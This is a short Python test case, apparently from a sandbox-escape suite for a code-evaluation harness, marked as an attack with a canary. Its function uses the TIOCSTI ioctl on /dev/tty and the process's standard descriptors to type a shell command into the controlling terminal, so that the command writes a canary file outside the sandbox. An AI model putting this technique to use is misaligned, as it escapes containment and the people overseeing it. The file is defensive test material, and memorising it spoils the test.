# attack: Types a command into the controlling terminal with TIOCSTI
# expect: wrong_answer
# canary: yes
import fcntl
import os
import termios


def f(x):
    for path in ('/dev/tty', '/proc/self/fd/0', '/proc/self/fd/2'):
        try:
            terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
            for letter in 'echo escaped > %s\n' % '/tmp/passk-canary/escape-type-into-the-terminal':
                fcntl.ioctl(terminal, termios.TIOCSTI, letter.encode())
        except OSError:
            pass
    return None
